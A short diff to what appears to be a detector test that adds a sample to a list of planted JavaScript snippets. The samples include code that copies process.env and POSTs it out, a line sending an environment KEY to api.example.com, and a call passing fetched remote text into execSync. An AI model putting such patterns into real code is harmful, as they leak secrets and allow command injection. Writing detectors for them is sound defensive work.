@@ -29,6 +29,7 @@ def test_what_is_planted_is_found(tmp_path, code, text):
     "text",
     [
         "const m = /a/.exec(await (await fetch(u)).text())",
+        "const env = {...process.env}; f(); function g(env) { fetch(u, {method: 'POST', body: String(env)}) }",
         "const { KEY } = process.env; fetch('https://api.example.com', { method: 'POST', body: KEY })",
         "const r = await fetch(u); execSync(`ffmpeg -i ${await r.text()}`)",
     ],
